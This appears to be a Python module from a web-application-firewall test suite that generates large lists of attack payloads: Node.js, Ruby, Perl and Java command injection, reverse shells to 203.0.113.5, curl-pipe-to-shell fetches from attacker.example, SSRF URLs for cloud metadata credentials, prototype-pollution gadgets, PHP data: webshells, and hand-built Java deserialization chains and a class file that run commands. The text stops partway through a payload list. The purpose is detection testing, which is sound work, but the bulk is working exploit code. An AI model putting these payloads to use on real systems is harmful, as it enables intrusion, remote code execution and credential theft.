"""Blind set "hundredthirtyfourth": dialects. The generic (Node.js, SSRF, prototype pollution, Ruby, Perl, DoS,
PHP data scheme), Java and server-side template injection families, each written for every runtime, engine,
interpreter, OS or version that speaks it, with benign requests that carry the same words innocently.

The angle: the same attack in each dialect its target family has, beyond the obvious one. Node.js injection
for CommonJS, ESM, the vm module, node-serialize, Deno and Bun, on Linux and Windows; SSRF metadata for AWS
(IPv4, IPv6, ECS, Lambda), GCP (v1, v1beta1), Azure, Alibaba, DigitalOcean, Oracle, OpenStack, Hetzner, Tencent
and Kubernetes, and every way inet_aton spells an address; prototype pollution for qs, dot-notation and JSON
merges and for the gadgets of EJS, Pug and child_process; Ruby for MRI 2.x/3.x, JRuby, Psych YAML and ERB; Perl 5
(two-argument open, qx with each delimiter, s///ee, Template Toolkit, Mason, Mojolicious) and Raku; PHP 5/7/8
code behind data: URIs. Java in Java, Groovy, Kotlin, Scala, Clojure, JRuby, Jython, BeanShell, Rhino, Nashorn;
processes spawned through POSIX shells, busybox, cmd.exe and PowerShell; serialization streams raw, hex,
base64, base64url, MIME-wrapped, gzip (JSF ViewState) and behind the Jenkins CLI preamble; gadgets for
commons-collections, Spring, Groovy, JDK 7u21 (TemplatesImpl), c3p0, ROME, Hibernate, logback, HikariCP, xbean,
Shiro, MyBatis; Log4Shell over each JNDI scheme and each lookup that rebuilds it; OGNL (Struts, Confluence),
SpEL (Spring Cloud Function and Gateway), MVEL, JEXL, JSP/Jakarta EL, Seam, Hibernate Validator; XStream,
XMLDecoder (WebLogic SOAP), fastjson by version, Jackson, SnakeYAML; class loading through URLClassLoader,
defineClass, BCEL, GroovyClassLoader, MLet and parameter binding (Spring4Shell, Struts, Spring 2010); JSP
uploads named for Tomcat, Windows and WebLogic. Template injection in each engine's own delimiters and object
model: Jinja2 (Python 2/3, Flask, Ansible), Twig 1/2/3 and Symfony, FreeMarker (angle and square syntax, ?api),
Velocity (VelocityTools, Solr, Confluence), Thymeleaf (SpEL, OGNL, preprocessing, inlining), ERB, Erubi and
trim mode, Smarty 2/3 and its CVEs, Handlebars, Pug and Jade, Mako, Tornado, Nunjucks, EJS (options
injection, Deno's dejs, Bun), Pebble before and after 3.0.9, Razor (Windows and Linux .NET), Go text/template,
Hugo, Helm/Sprig, gomplate and consul-template, and Liquid (Shopify, Jekyll, liquidjs). The comment above each
list names the dialect and its target.

Families (the `sub` of each record):
  generic: nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip, javascript-prototype-pollution,
    ruby-injection, perl-injection, php-data-scheme
  java: java-class-names, java-process-spawn, java-serialization, java-deserialization-gadgets, log4shell,
    expression-language, polymorphic-deserialization, class-loading, jsp-upload
  ssti: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug, mako, tornado, nunjucks,
    ejs, pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, an XML body, a multipart field, a parameter
name, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to paths that are
not our routes under arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw
form-typed body, a header or a cookie. Payloads that only work in one shape go in that shape: whole JSON, XML
and YAML documents as the body; qs-style pollution and parameter binding as raw `name=value` pairs; S2-045 in
Content-Type; Spring Cloud Function's routing expression in its header; pre-encoded Log4Shell verbatim in the
query; raw Java serialization streams percent-encoded (a str body cannot carry bytes); JSP uploads as multipart
file names and file contents.

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone; no WAF rule, engine source, ruleset regression test or public payload list was read.
The Java serialization streams (commons-collections transformer chain, probes) and the class file carried by
TemplatesImpl, ReflectUtils and BCEL payloads are built here byte by byte. Measured once on unchanged code;
deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import gzip
import struct
from collections.abc import Iterator
from typing import Any

from .blind_placements import RS_PATHS, BlindSet, Cycles, Put, Record, enc, request
from .family_gen import _get
from .records import print_records

NAME = "hundredthirtyfourth"

Entry = str | tuple[str, str, str]


# ----------------------------------------------------------------------------------------------------------------
# Java bytes built here: ObjectOutputStream streams (protocol 2) and a minimal class file
def _u16(n: int) -> bytes:
    return struct.pack(">H", n)


def _mutf(text: str) -> bytes:
    raw = text.encode()
    return _u16(len(raw)) + raw


def _jstr(text: str) -> bytes:
    return b"t" + _mutf(text)


def _desc(name: str, suid: int, flags: int, fields: list[tuple[str, str, str]]) -> bytes:
    """TC_CLASSDESC with no superclass; fields as (type code, name, object signature or '')."""
    out = b"r" + _mutf(name) + struct.pack(">q", suid) + bytes([flags]) + _u16(len(fields))
    for code, fname, sig in fields:
        out += code.encode() + _mutf(fname) + (_jstr(sig) if sig else b"")
    return out + b"xp"


STREAM_MAGIC = b"\xac\xed\x00\x05"
CC = "org.apache.commons.collections.functors."
OBJ_ARRAY = _desc("[Ljava.lang.Object;", -8012369246846506644, 2, [])
CLASS_ARRAY = _desc("[Ljava.lang.Class;", -6118465897992725863, 2, [])


def _cls(name: str, suid: int = 0, flags: int = 0) -> bytes:
    return b"v" + _desc(name, suid, flags, [])


def _invoker(method: str, types: list[bytes], args: list[bytes]) -> bytes:
    fields = [("[", "iArgs", "[Ljava/lang/Object;"), ("L", "iMethodName", "Ljava/lang/String;"),
              ("[", "iParamTypes", "[Ljava/lang/Class;")]
    return (b"s" + _desc(CC + "InvokerTransformer", -8653385846894047688, 2, fields)
            + b"u" + OBJ_ARRAY + struct.pack(">i", len(args)) + b"".join(args) + _jstr(method)
            + b"u" + CLASS_ARRAY + struct.pack(">i", len(types)) + b"".join(types))


STRING_CLS = _cls("java.lang.String", -6849794470754667710, 2)


def _chain(command: str) -> bytes:
    """ChainedTransformer: Runtime.class -> getMethod("getRuntime") -> invoke -> exec(command)."""
    constant = (b"s" + _desc(CC + "ConstantTransformer", 6374440726369055124, 2,
                             [("L", "iConstant", "Ljava/lang/Object;")]) + _cls("java.lang.Runtime"))
    get_method = _invoker("getMethod", [STRING_CLS, _cls("[Ljava.lang.Class;", -6118465897992725863, 2)],
                          [_jstr("getRuntime"), b"u" + CLASS_ARRAY + struct.pack(">i", 0)])
    invoke = _invoker("invoke", [_cls("java.lang.Object"), _cls("[Ljava.lang.Object;", -8012369246846506644, 2)],
                      [b"p", b"u" + OBJ_ARRAY + struct.pack(">i", 0)])
    exec_ = _invoker("exec", [STRING_CLS], [_jstr(command)])
    array = _desc("[Lorg.apache.commons.collections.Transformer;", -4803604734341277543, 2, [])
    return (STREAM_MAGIC + b"s" + _desc(CC + "ChainedTransformer", 3514945074733160196, 2,
                                        [("[", "iTransformers", "[Lorg/apache/commons/collections/Transformer;")])
            + b"u" + array + struct.pack(">i", 4) + constant + get_method + invoke + exec_)


SER_CHAIN = _chain("touch /tmp/pwned")
SER_CHAIN_WIN = _chain("cmd.exe /c calc.exe")
SER_INVOKER = STREAM_MAGIC + _invoker("exec", [STRING_CLS], [_jstr("id")])
SER_DATE = (STREAM_MAGIC + b"s" + _desc("java.util.Date", 7523967970034938905, 3, [])
            + b"w\x08" + struct.pack(">q", 1700000000000) + b"x")
SER_HASHSET = (STREAM_MAGIC + b"s" + _desc("java.util.HashSet", -5024744406713321676, 3, [])
               + b"w\x0c" + struct.pack(">ifi", 16, 0.75, 1) + _jstr("probe.dnslog.attacker.example") + b"x")
SER_BOOLEAN = (STREAM_MAGIC + b"s" + _desc("java.lang.Boolean", -3665804199014368530, 2, [("Z", "value", "")])
               + b"\x01")


def _class_file(name: str, parent: str, command: str) -> bytes:
    """A class-file (version 49) whose static initializer runs Runtime.getRuntime().exec(command)."""
    pool: list[bytes] = []

    def add(entry: bytes) -> int:
        pool.append(entry)
        return len(pool)

    def utf8(text: str) -> int:
        return add(b"\x01" + _mutf(text))

    def klass(text: str) -> int:
        return add(b"\x07" + _u16(utf8(text)))

    def mref(owner: str, mname: str, mdesc: str) -> int:
        owner_i = klass(owner)
        nat = add(b"\x0c" + _u16(utf8(mname)) + _u16(utf8(mdesc)))
        return add(b"\x0a" + _u16(owner_i) + _u16(nat))

    this_i, super_i = klass(name), klass(parent)
    get_rt = mref("java/lang/Runtime", "getRuntime", "()Ljava/lang/Runtime;")
    exec_i = mref("java/lang/Runtime", "exec", "(Ljava/lang/String;)Ljava/lang/Process;")
    super_init = mref(parent, "<init>", "()V")
    cmd_i = add(b"\x08" + _u16(utf8(command)))
    code_i, init_i, clinit_i, void_i = utf8("Code"), utf8("<init>"), utf8("<clinit>"), utf8("()V")

    def method(access: int, name_i: int, stack: int, locals_: int, code: bytes) -> bytes:
        attr = _u16(stack) + _u16(locals_) + struct.pack(">I", len(code)) + code + _u16(0) + _u16(0)
        return _u16(access) + _u16(name_i) + _u16(void_i) + _u16(1) + _u16(code_i) + struct.pack(">I", len(attr)) \
            + attr

    clinit = b"\xb8" + _u16(get_rt) + b"\x12" + bytes([cmd_i]) + b"\xb6" + _u16(exec_i) + b"\x57\xb1"
    init = b"\x2a\xb7" + _u16(super_init) + b"\xb1"
    return (b"\xca\xfe\xba\xbe" + _u16(0) + _u16(49) + _u16(len(pool) + 1) + b"".join(pool)
            + _u16(0x21) + _u16(this_i) + _u16(super_i) + _u16(0) + _u16(0) + _u16(2)
            + method(1, init_i, 1, 1, init) + method(8, clinit_i, 2, 0, clinit) + _u16(0))


TRANSLET = _class_file("Exploit", "com/sun/org/apache/xalan/internal/xsltc/runtime/AbstractTranslet",
                       "touch /tmp/pwned")
PLAIN_CLASS = _class_file("Exploit", "java/lang/Object", "curl -s http://attacker.example/c")


def _bcel(raw: bytes) -> str:
    """BCEL's class-name encoding (Utility.encode with compression): gzip, then $-escapes."""
    cmap = [chr(c) for c in range(ord("A"), ord("Z") + 1)] + [chr(c) for c in range(ord("g"), ord("z") + 1)]
    cmap += ["$", "_"]
    out = []
    for b in gzip.compress(raw, mtime=0):
        ch = chr(b)
        if ch.isascii() and (ch.isalnum() or ch == "_"):
            out.append(ch)
        else:
            out.append("$" + (cmap[b] if b < 48 else f"{b:02x}"))
    return "$$BCEL$$" + "".join(out)


def _latin(raw: bytes) -> str:
    return raw.decode("latin-1")


def _b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def _b64s(text: str) -> str:
    return _b64(text.encode())


TRANSLET_B64 = _b64(TRANSLET)
CLASS_B64 = _b64(PLAIN_CLASS)
BCEL_CLASS = _bcel(PLAIN_CLASS)
LDAP = "ldap://attacker.example:1389/Basic/Command/Base64/aWQ="

# ----------------------------------------------------------------------------------------------------------------
# Payloads. An entry is a payload string, or (payload, real placement, rs placement) when the payload only works
# in one shape.

# --- generic: nodejs-injection ---
NODE_INJECTION: list[Entry] = [
    # Node.js CommonJS (v12-v22, Linux): child_process through require and the module system
    "require('child_process').execSync('id').toString()",
    "require('node:child_process').spawnSync('sh',['-c','id']).stdout+''",
    "process.mainModule.require('child_process').execFileSync('/usr/bin/id')",
    "module.constructor._load('child_process').execSync('uname -a')",
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[{type:'pipe',readable:1}]})",
    # Node.js 22.3+: the builtin-module getter, no require needed
    "process.getBuiltinModule('child_process').execSync('id')",
    # Node.js ESM (.mjs, v14+): dynamic import
    "import('child_process').then(cp=>cp.execSync('id'))",
    "await import('node:fs').then(fs=>fs.readFileSync('/etc/passwd','utf8'))",
    # V8 sandbox escapes: Function constructor, eval, vm, worker_threads
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "Function('return process')().mainModule.require('fs').readFileSync('/etc/shadow')",
    "eval(\"require('child_process').execSync('id')\")",
    "require('vm').runInNewContext('this.constructor.constructor(\"return process\")().exit()')",
    "new (require('worker_threads').Worker)(\"require('child_process').execSync('id')\",{eval:true})",
    # node-serialize and funcster: functions revived by unserialize()
    ("{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}", "json-body", "rs-json-body"),
    ("{\"x\":{\"__js_function\":\"function(){return process.mainModule.require('child_process').execSync('id')}()\"}}",
     "json-body", "rs-json-body"),
    # Deno 1.x / 2.x
    "Deno.run({cmd:['id']}).status()",
    "new Deno.Command('sh',{args:['-c','id']}).outputSync()",
    "Deno.readTextFileSync('/etc/passwd')",
    "Deno.env.toObject()",
    # Bun 1.x
    "Bun.spawnSync(['sh','-c','id']).stdout.toString()",
    "await Bun.$`id`.text()",
    "Bun.file('/etc/passwd').text()",
    # Node.js on Windows: cmd.exe and PowerShell children
    "require('child_process').execSync('cmd.exe /c whoami').toString()",
    "require('child_process').spawn('powershell.exe',['-NoP','-C','Get-Process'])",
]

# --- generic: nodejs-dos ---
NODE_DOS: list[Entry] = [
    # V8 irregexp: catastrophic backtracking when the input becomes a RegExp (search filters, validators)
    "(a+)+$",
    "^(a|a)*$",
    "^(\\w+\\s?)*$",
    "(.*a){25}",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    "new RegExp('^(a+)+$').test('a'.repeat(40)+'!')",
    # Node.js / Deno / Bun (same JavaScript): event-loop lock-ups
    "while(true){}",
    "for(;;);",
    "do{}while(1)",
    "(function f(){f()})()",
    "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)),0,0)",
    # huge allocations
    "Buffer.alloc(0x7fffffff)",
    "new Array(2**32-1).fill(0)",
    "'A'.repeat(2**29)",
    "new ArrayBuffer(Number.MAX_SAFE_INTEGER)",
    "JSON.parse('['.repeat(1e7))",
    # process killers per runtime: Node.js, Deno, Bun
    "process.kill(process.pid,'SIGKILL')",
    "Deno.exit(1)",
    "Bun.sleepSync(1e9)",
    # MongoDB server-side JavaScript (SpiderMonkey) in $where
    ("{\"$where\":\"while(true){}\"}", "json-body", "rs-json-body"),
    ("{\"$where\":\"sleep(100000) || true\"}", "json-body", "rs-json-body"),
]

# --- generic: ssrf-cloud-metadata ---
SSRF_CLOUD: list[Entry] = [
    # AWS EC2 IMDSv1 over IPv4, its IPv6 (Nitro) endpoint and DNS names
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
    "http://instance-data/latest/meta-data/hostname",
    "http://instance-data.ec2.internal/latest/dynamic/instance-identity/document",
    # AWS ECS task metadata and Lambda runtime API
    "http://169.254.170.2/v2/metadata",
    "http://localhost:9001/2018-06-01/runtime/invocation/next",
    # Google Cloud: v1 (needs Metadata-Flavor) and the legacy v1beta1 that did not
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1beta1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/instance/attributes/kube-env?alt=json",
    # Azure IMDS and managed identity
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"
    "&resource=https://management.azure.com/",
    # Alibaba Cloud ECS
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    # DigitalOcean droplets
    "http://169.254.169.254/metadata/v1.json",
    # Oracle Cloud, OpenStack, Hetzner, Tencent, Kubernetes API
    "http://169.254.169.254/opc/v2/instance/",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    "http://169.254.169.254/hetzner/v1/metadata/private-networks",
    "http://metadata.tencentyun.com/latest/meta-data/cam/security-credentials/",
    "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    # 169.254.169.254 spelled as decimal, hex, octal, two-part, IPv4-mapped IPv6 and wildcard DNS
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://169.254.43518/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
]

# --- generic: ssrf-internal-ip ---
SSRF_INTERNAL: list[Entry] = [
    # 127.0.0.1 in inet_aton's forms (glibc, Windows, old Go and Java URL parsers)
    "http://2130706433:8080/admin",
    "http://0x7f000001/server-status",
    "http://017700000001/",
    "http://0177.0.0.01:6379/",
    "http://127.1:9200/_cat/indices",
    # Linux: 0.0.0.0 and 0 reach local listeners (Docker API)
    "http://0.0.0.0:2375/containers/json",
    "http://0:8500/v1/agent/self",
    # IPv6 loopback and mapped forms
    "http://[::1]:8500/v1/kv/?recurse",
    "http://[0:0:0:0:0:ffff:7f00:1]/",
    # localhost aliases and URL-parser confusion
    "http://localhost.localdomain/server-status",
    "http://ip6-localhost:2379/v2/keys/",
    "http://localtest.me:8080/actuator/env",
    "http://attacker.example@127.0.0.1:2379/v2/keys/",
    "http://127.0.0.1:11211#@attacker.example/",
    # private ranges: the Docker bridge
    "http://172.17.0.1:2375/version",
    # file:// per OS: Linux, container secrets, Windows, macOS, UNC
    "file:///etc/passwd",
    "file:///proc/self/environ",
    "file:///var/run/secrets/kubernetes.io/serviceaccount/token",
    "file:///c:/windows/win.ini",
    "file:///private/etc/master.passwd",
    "file:////127.0.0.1/c$/windows/win.ini",
    # gopher:// speaking Redis, SMTP and FastCGI; dict://; Java's jar: and netdoc:
    "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/www/html%0D%0ACONFIG%20SET%20dbfilename%20x.php%0D%0A",
    "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cx%40attacker.example%3E%0D%0A",
    "gopher://127.0.0.1:9000/_%01%01%00%01%00%08%00%00%00%01%00%00%00%00%00%00",
    "dict://127.0.0.1:6379/INFO",
    "jar:http://127.0.0.1:8080/x.jar!/",
    "netdoc:///etc/passwd",
]

# --- generic: javascript-prototype-pollution ---
POLLUTION: list[Entry] = [
    # qs (Express) bracket syntax in the query string and in form bodies
    ("__proto__[isAdmin]=true", "qs-raw", "rs-qs-raw"),
    ("__proto__[role]=admin&__proto__[verified]=1", "form-raw", "rs-form-raw"),
    ("constructor[prototype][isAdmin]=true", "qs-raw", "rs-qs-raw"),
    ("user[__proto__][admin]=1", "form-raw", "rs-qs-raw"),
    # dot-notation parsers (deparam, dot-object, set-value paths)
    ("__proto__.isAdmin=true", "qs-raw", "rs-qs-raw"),
    ("constructor.prototype.toString=1", "qs-raw", "rs-form-raw"),
    # jQuery BBQ / can-deparam in the browser: a DOM gadget through the prototype
    ("__proto__[innerHTML]=<img src=x onerror=alert(document.domain)>", "qs-raw", "rs-qs-raw"),
    ("__proto__[src]=data:,alert(1)//", "qs-raw", "rs-qs-raw"),
    # JSON merges (lodash merge/defaultsDeep, hoek, deep-extend)
    ("{\"__proto__\":{\"isAdmin\":true}}", "json-body", "rs-json-body"),
    ("{\"constructor\":{\"prototype\":{\"isAdmin\":true}}}", "json-body", "rs-json-body"),
    ("{\"settings\":{\"theme\":\"dark\",\"__proto__\":{\"admin\":true}}}", "json-body", "rs-json-body"),
    ("{\"__pro\\u0074o__\":{\"isAdmin\":true}}", "json-body", "rs-json-body"),
    ("{\"path\":\"__proto__.polluted\",\"value\":\"yes\"}", "json-body", "rs-json-body"),
    # gadgets: EJS render options (outputFunctionName, escapeFunction)
    ("{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');x\"}}",
     "json-body", "rs-json-body"),
    ("{\"__proto__\":{\"client\":true,\"escapeFunction\":\"1;return process.mainModule.require('child_process')"
     ".execSync('id')\"}}", "json-body", "rs-json-body"),
    # gadget: Pug's compiler reads block.line from the prototype
    ("{\"__proto__\":{\"block\":{\"type\":\"Text\",\"line\":\"process.mainModule.require('child_process')"
     ".execSync('id')\"}}}", "json-body", "rs-json-body"),
    # gadgets: child_process options (spawn shell, NODE_OPTIONS, fork execArgv)
    ("{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id')"
     ".toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}", "json-body", "rs-json-body"),
    ("{\"__proto__\":{\"execArgv\":[\"--eval=require('child_process').execSync('id')\"]}}",
     "json-body", "rs-json-body"),
    ("{\"constructor\":{\"prototype\":{\"env\":{\"NODE_OPTIONS\":\"--inspect=attacker.example:9229\"}}}}",
     "json-body", "rs-json-body"),
    # gadget: lodash.template's sourceURL comment breakout
    ("__proto__[sourceURL]=%0areturn process.mainModule.require('child_process').execSync('id')//", "qs-raw",
     "rs-qs-raw"),
]

# --- generic: ruby-injection ---
RUBY: list[Entry] = [
    # Ruby MRI 2.x/3.x: Kernel command execution
    "system('id')",
    "Kernel.exec('/bin/sh','-c','id')",
    "%x{curl http://attacker.example/?h=`hostname`}",
    "%x[cat /etc/passwd]",
    "Kernel.`('id')",
    "IO.popen(['id']).read",
    "require 'open3'; Open3.capture2('id')[0]",
    "Process.spawn('nc attacker.example 4444 -e /bin/sh')",
    "f=TCPSocket.open('203.0.113.5',4444).to_i;exec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)",
    # Ruby before 3.3 (4.0 removed it): Kernel#open and IO.read with a leading pipe
    "Kernel.open('|id').read",
    "open('| curl -s attacker.example/x.sh | sh')",
    "IO.read('|cat /etc/passwd')",
    # metaprogramming: eval family and dynamic dispatch
    "instance_eval('`id`')",
    "Object.class_eval('system(\"id\")')",
    "send(:system, 'id')",
    "public_send(:eval, 'File.read(\"/etc/passwd\")')",
    "method(:system).call('id')",
    "Object.const_get(:Kernel).send(:exec, 'id')",
    "ERB.new('<%= `id` %>').result(binding)",
    # JRuby: Java classes through Ruby syntax
    "java.lang.Runtime.getRuntime.exec('id')",
    # Psych YAML.load (Ruby 2.x universal gadget; 3.0-3.2 Gem::Installer / RequestSet chain)
    ("--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs:\n"
     "  - !ruby/object:Gem::Source::SpecificFile\n    spec: &1 !ruby/object:Gem::StubSpecification\n"
     "      loaded_from: \"|id 1>&2\"\n  - !ruby/object:Gem::Source::SpecificFile\n      spec: *1\n",
     "yaml-body", "rs-yaml-body"),
    ("---\n- !ruby/object:Gem::Installer\n    i: x\n- !ruby/object:Gem::SpecFetcher\n    i: y\n"
     "- !ruby/object:Gem::Requirement\n  requirements:\n    !ruby/object:Gem::Package::TarReader\n"
     "    io: &1 !ruby/object:Net::BufferedIO\n      io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
     "         read: 0\n         header: \"abc\"\n      debug_output: &1 !ruby/object:Net::WriteAdapter\n"
     "         socket: &1 !ruby/object:Gem::RequestSet\n             sets: !ruby/object:Net::WriteAdapter\n"
     "                 socket: !ruby/module 'Kernel'\n                 method_id: :system\n"
     "             git_set: id\n         method_id: :resolve\n", "yaml-body", "rs-yaml-body"),
]

# --- generic: perl-injection ---
PERL: list[Entry] = [
    # Perl 5 two-argument open() in CGI scripts: a pipe at either end of the file name
    "|/bin/id|",
    "| mail attacker@example.org < /etc/passwd",
    # Perl 5 code: open, system, exec, backticks, qx with each delimiter, readpipe
    "open(my $f,'-|','id');print <$f>",
    "system('/bin/sh','-c','id')",
    "exec '/bin/sh -i'",
    "print `id`",
    "qx{uname -a}",
    "qx!cat /etc/passwd!",
    "qx'id'",
    "readpipe('id')",
    "eval \"system('id')\"",
    "s/.*/`id`/ee",
    "@{[ `id` ]}",
    "IO::File->new('id |')->getlines",
    "use IPC::Open3; open3(my $in, my $out, undef, 'id')",
    "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));connect(S,sockaddr_in(4444,"
    "inet_aton('203.0.113.5')));open(STDIN,'>&S');open(STDOUT,'>&S');exec('/bin/sh -i');",
    # Perl on Windows (Strawberry/ActivePerl)
    "system('cmd.exe /c dir C:\\\\')",
    # Perl template engines: Template Toolkit PERL blocks, HTML::Mason, Mojolicious ep
    "[% PERL %] print `id`; [% END %]",
    "<% `cat /etc/passwd` %>",
    "<%= qx{id} %>",
    # Raku (Perl 6)
    "shell 'id'",
    "run 'cat', '/etc/passwd'",
    "qqx{id}",
]

# --- generic: php-data-scheme ---
PHP_SYSTEM = "<?php system($_GET['cmd']); ?>"
PHP_DATA: list[Entry] = [
    # PHP 5/7/8 include()/file_get_contents() with allow_url_include: data:// with base64 and plain bodies
    "data://text/plain;base64," + _b64s(PHP_SYSTEM),
    "data:text/plain;base64," + _b64s("<?php phpinfo(); ?>"),
    "data://text/plain,<?php phpinfo(); ?>",
    "data:,<?php system('id'); ?>",
    "data://text/plain;charset=utf-8,<?php echo shell_exec('id'); ?>",
    "data://application/x-httpd-php;base64," + _b64s("<?php eval($_POST[0]); ?>"),
    "data://image/png;base64," + _b64s("<?php passthru($_REQUEST['c']); ?>"),
    "DATA://text/plain;base64," + _b64s("<?php echo file_get_contents('/etc/passwd'); ?>"),
    "data:;base64," + _b64s(PHP_SYSTEM),
    # PHP 5.4+ short echo and short open tags (short_open_tag=On)
    "data://text/plain,<?= `id` ?>",
    "data://text/plain;base64," + _b64s("<? passthru('id'); ?>"),
    # PHP 5 only: the <script language="php"> tag
    "data://text/plain,<script language=\"php\">system('id');</script>",
    # PHP 7/8: no closing tag, backtick operator, nullsafe-era syntax
    "data://text/plain;base64," + _b64s("<?php echo `{$_GET[0]}`;"),
    "data:text/plain,<?php $f=$_GET['f']??'id';system($f);",
    # PHP on Windows (XAMPP)
    "data://text/plain,<?php system('cmd /c type C:\\\\xampp\\\\passwords.txt'); ?>",
]

# --- java: java-class-names ---
JAVA_CLASSES: list[Entry] = [
    # Java source snippets (BeanShell, JShell, Janino, rule engines): Runtime, reflection, ClassLoader, scripting
    "java.lang.Runtime.getRuntime().exec(\"touch /tmp/pwned\")",
    "Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)",
    "Thread.currentThread().getContextClassLoader().loadClass(\"java.lang.ProcessBuilder\")",
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"java.lang.Runtime"
    ".getRuntime().exec('id')\")",
    "java.lang.System.getenv().get(\"AWS_SECRET_ACCESS_KEY\")",
    "Class.forName(\"sun.misc.Unsafe\").getDeclaredField(\"theUnsafe\")",
    "ClassLoader.getSystemClassLoader().loadClass(\"javax.naming.InitialContext\").newInstance()",
    # Groovy (Jenkins script console, Groovy templates): property-style getters
    "Runtime.runtime.exec('id')",
    "this.class.classLoader.loadClass('java.lang.Runtime').runtime.exec('id')",
    # Kotlin script (.kts)
    "Runtime.getRuntime().exec(arrayOf(\"sh\", \"-c\", \"id\"))",
    # Scala REPL / Ammonite
    "Runtime.getRuntime.exec(Array(\"sh\", \"-c\", \"id\"))",
    # Clojure (nREPL)
    "(.exec (Runtime/getRuntime) \"id\")",
    # JRuby
    "Java::JavaLang::Runtime.getRuntime.exec('id')",
    # Jython
    "from java.lang import Runtime; Runtime.getRuntime().exec('id')",
    # Rhino / Nashorn / GraalJS
    "Java.type('java.lang.Runtime').getRuntime().exec('id')",
    "Packages.java.lang.Runtime.getRuntime().exec('id')",
    "importPackage(java.lang); Runtime.getRuntime().exec('id')",
    "new java.lang.ProcessBuilder['(java.lang.String[])'](['id']).start()",
]

# --- java: java-process-spawn ---
PS_ENC = base64.b64encode("whoami".encode("utf-16-le")).decode()
JAVA_SPAWN: list[Entry] = [
    # Runtime.exec with a POSIX shell named (exec itself does not parse shell syntax): bash, sh, busybox, zsh
    "Runtime.getRuntime().exec(new String[]{\"/bin/bash\",\"-c\",\"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\"})",
    "Runtime.getRuntime().exec(new String[]{\"/bin/sh\",\"-c\",\"id > /tmp/o\"})",
    "Runtime.getRuntime().exec(\"bash -c {echo," + _b64s("id") + "}|{base64,-d}|{bash,-i}\")",
    "Runtime.getRuntime().exec(new String[]{\"busybox\",\"sh\",\"-c\",\"nc 203.0.113.5 4444 -e sh\"})",
    "new java.lang.ProcessBuilder(java.util.Arrays.asList(\"zsh\",\"-c\",\"id\")).start()",
    # Windows: cmd.exe, PowerShell 5 (-EncodedCommand) and PowerShell 7 (pwsh)
    "Runtime.getRuntime().exec(\"cmd.exe /c whoami\")",
    "Runtime.getRuntime().exec(\"powershell.exe -NoP -NonI -W Hidden -Enc " + PS_ENC + "\")",
    "new ProcessBuilder(\"cmd\",\"/c\",\"type C:\\\\Windows\\\\win.ini\").start()",
    "new ProcessBuilder(\"pwsh\",\"-c\",\"Get-ChildItem Env:\").start()",
    # ProcessBuilder with redirection
    "new ProcessBuilder(new String[]{\"sh\",\"-c\",\"curl attacker.example|sh\"}).redirectErrorStream(true).start()",
    # JDK internals past Runtime: ProcessImpl (JDK 9+) and UNIXProcess (JDK 8 Linux/macOS)
    "Class.forName(\"java.lang.ProcessImpl\").getDeclaredMethod(\"start\", String[].class, java.util.Map.class,"
    " String.class, ProcessBuilder.Redirect[].class, boolean.class)",
    "Class.forName(\"java.lang.UNIXProcess\").getDeclaredConstructors()[0]",
    # Groovy: String.execute() and List.execute()
    "'id'.execute().text",
    "['sh','-c','cat /etc/passwd'].execute().text",
    "\"cmd /c dir C:\\\\\".execute()",
    # Scala sys.process
    "import sys.process._; \"id\".!!",
    "scala.sys.process.Process(Seq(\"sh\",\"-c\",\"id\")).!",
    # Kotlin
    "ProcessBuilder(\"sh\", \"-c\", \"id\").start().inputStream.bufferedReader().readText()",
    # Clojure
    "(clojure.java.shell/sh \"sh\" \"-c\" \"id\")",
]

# --- java: java-serialization (the same commons-collections chain in each carrier) ---
CHAIN_B64 = _b64(SER_CHAIN)
JAVA_SERIAL: list[Entry] = [
    # raw ObjectOutputStream bytes (ac ed 00 05), percent-encoded by the carrier
    _latin(SER_CHAIN),
    _latin(SER_CHAIN_WIN),
    _latin(SER_INVOKER),
    _latin(SER_HASHSET),
    # hex dumps (lower and upper case)
    SER_CHAIN.hex(),
    SER_INVOKER.hex().upper(),
